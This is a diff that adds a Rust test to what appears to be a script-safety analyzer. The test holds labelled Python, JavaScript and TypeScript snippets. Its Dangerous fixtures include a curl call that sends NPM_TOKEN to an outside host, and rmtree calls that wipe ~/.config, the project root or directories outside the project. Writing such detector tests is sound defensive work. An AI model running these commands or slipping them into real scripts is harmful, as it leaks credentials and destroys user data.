@@ -6308,3 +6308,147 @@ fn values_through_overrides_folds_closures_and_tuples() {
     ];
     check_all(rows);
 }
+
+/// A shell command a script builds whose run-time parts are operands of the programs it names
+/// (`git tag -s ${tag}`, `tar -czf dist/${name}.tgz`, a project script run with `node`) keeps
+/// what runs visible: clean. Where such a part picks what runs (the program, a subcommand, the
+/// code of `-exec`, the script an interpreter runs) or is an argument of the command line, the
+/// command is built at run time; a token in it still goes where it goes. A glob's match keeps
+/// the pattern's directory, and `$VIRTUAL_ENV` is the project's environment.
+#[test]
+fn shell_commands_with_run_time_operands() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import subprocess\nwith open('VERSION') as fh:\n    tag = 'v' + fh.read().strip()\n\
+             subprocess.check_call(f\"git tag -s {tag} -m 'Release {tag}'\", shell=True)\n\
+             subprocess.check_call(f\"git archive --format=tar.gz -o dist/{tag}.tar.gz {tag}\", shell=True)\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const { execSync } = require('child_process');\nconst fs = require('fs');\n\
+             const { name, version } = JSON.parse(fs.readFileSync('package.json', 'utf8'));\n\
+             execSync(`tar -czf dist/${name}-${version}.tgz -C build .`, { stdio: 'inherit' });\n",
+            Clean,
+            "",
+        ),
+        (
+            Ts,
+            "import { execSync } from 'child_process';\nimport * as path from 'path';\n\
+             const outDir = path.resolve(__dirname, '..', 'public', 'icons');\n\
+             execSync(`node ${path.join(__dirname, 'gen-icons.js')} --out ${outDir}`, { stdio: 'inherit' });\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import glob, os, shutil\nROOT = os.path.dirname(os.path.abspath(__file__))\n\
+             stale = glob.glob(os.path.join(ROOT, 'build', 'tmp-*'))\nif stale:\n    shutil.rmtree(stale[0])\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import os, shutil\nlab = os.path.join(os.environ['VIRTUAL_ENV'], 'share', 'jupyter', 'lab')\n\
+             if os.path.isdir(lab):\n    shutil.rmtree(lab)\n",
+            Clean,
+            "",
+        ),
+        // The program or subcommand known only at run time.
+        (
+            Py,
+            "import os, subprocess\ntool = os.environ['SYNC_TOOL']\n\
+             subprocess.run(f\"{tool} --sync --all\", shell=True, check=True)\n",
+            Suspicious,
+            "remote-code",
+        ),
+        (
+            Js,
+            "const { execSync } = require('child_process');\nconst step = process.env.STEP;\n\
+             execSync(`git ${step} --quiet`, { stdio: 'inherit' });\n",
+            Suspicious,
+            "remote-code",
+        ),
+        // The code of `-exec`, the script an interpreter runs.
+        (
+            Js,
+            "const { execSync } = require('child_process');\nconst act = process.env.LOG_ACTION;\n\
+             execSync(`find logs -name '*.log' -exec ${act} {} +`);\n",
+            Suspicious,
+            "remote-code",
+        ),
+        (
+            Ts,
+            "import { execSync } from 'child_process';\nconst hook = process.env.POST_HOOK;\n\
+             execSync(`node ${hook} --after-build`, { stdio: 'inherit' });\n",
+            Suspicious,
+            "remote-code",
+        ),
+        // An argument of the command line in a shell string.
+        (
+            Py,
+            "import subprocess, sys\nref = sys.argv[1]\n\
+             subprocess.check_call(f\"git fetch origin {ref} && git log -1 {ref}\", shell=True)\n",
+            Suspicious,
+            "remote-code",
+        ),
+        (
+            Js,
+            "const { execSync } = require('child_process');\nconst target = process.argv[2];\n\
+             execSync(`du -sh ${target}`, { stdio: 'inherit' });\n",
+            Suspicious,
+            "remote-code",
+        ),
+        // A token in the command's operands still goes to the host it names.
+        (
+            Js,
+            "const { execSync } = require('child_process');\nconst t = process.env.NPM_TOKEN;\n\
+             execSync(`curl -s -H \"X-Auth: ${t}\" https://stats.pkgmirror-svc.net/ping`);\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // A glob's match outside the project, a climb out of the environment.
+        (
+            Py,
+            "import glob, os, shutil\nfor d in glob.glob(os.path.expanduser('~/.config/*')):\n    shutil.rmtree(d)\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import os, shutil\nshutil.rmtree(os.path.join(os.environ['VIRTUAL_ENV'], '..', '..'))\n",
+            Dangerous,
+            "destructive",
+        ),
+        // A chain of `os.path.dirname` from the script ends at the project's top, however
+        // deep the script is kept; a `..` joined to it climbs out, and the top itself is the
+        // whole project.
+        (
+            Py,
+            "import os, shutil\n\
+             REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.realpath(__file__))))\n\
+             for part in ('site', 'coverage'):\n    shutil.rmtree(os.path.join(REPO, 'build', part), ignore_errors=True)\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import os, shutil\n\
+             REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.realpath(__file__))))\n\
+             shutil.rmtree(os.path.join(REPO, os.pardir, 'other-checkout'), ignore_errors=True)\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import os, shutil\n\
+             REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.realpath(__file__))))\n\
+             shutil.rmtree(REPO)\n",
+            Dangerous,
+            "destructive",
+        ),
+    ];
+    check_all(rows);
+}
